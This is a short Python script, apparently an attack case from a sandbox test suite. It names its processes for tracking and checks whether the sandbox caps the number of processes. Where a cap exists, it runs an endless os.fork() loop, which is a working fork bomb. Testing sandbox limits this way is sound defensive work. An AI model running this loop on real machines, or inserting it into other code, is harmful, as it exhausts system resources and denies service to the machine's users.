"""Attack: fork bomb. Every process carries argv[1] as its name (comm) so the test can find survivors."""
print("ATTACK-START", flush=True)
import ctypes
import os
import resource
import sys

ctypes.CDLL(None).prctl(15, sys.argv[1].encode()[:15], 0, 0, 0)  # PR_SET_NAME, inherited by fork
soft, _ = resource.getrlimit(resource.RLIMIT_NPROC)
if soft == resource.RLIM_INFINITY:
    print("ESCAPED no process-count limit in the sandbox", flush=True)
    sys.exit(0)
print(f"nproc limit {soft}", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
